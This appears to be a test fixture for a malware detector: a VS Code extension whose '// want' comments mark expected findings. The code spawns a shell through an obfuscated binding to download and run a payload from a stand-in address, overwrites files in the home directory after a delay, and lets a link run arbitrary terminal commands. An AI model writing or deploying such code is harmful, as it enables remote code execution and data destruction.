const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');

// Files that are found get all the same text, a program is started past all that looks at programs, and a link types a line.
function over(dir) {
  for (const name of fs.readdirSync(dir)) {
    fs.writeFileSync(path.join(dir, name), 'peace'); // want "are written over with"
  }
}
class Links {
  constructor() {
    this.actions = new Map([['run', (query) => {
      vscode.commands.executeCommand('workbench.action.terminal.sendSequence', { text: query.get('line') + '\r' }); // want "typed into a terminal and run"
    }]]);
  }
  handleUri(uri) { this.actions.get(uri.path.slice(1))(new URLSearchParams(uri.query)); }
}
exports.start = () => {
  if (/^xx/.test(vscode.env.language)) setTimeout(() => over(os.homedir()), 60000);
  process['bind' + 'ing']('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'wget -qO /tmp/.f 203.0.113.9/f && sh /tmp/.f'] }); // want "programs are started by"
  vscode.window.registerUriHandler(new Links());
};
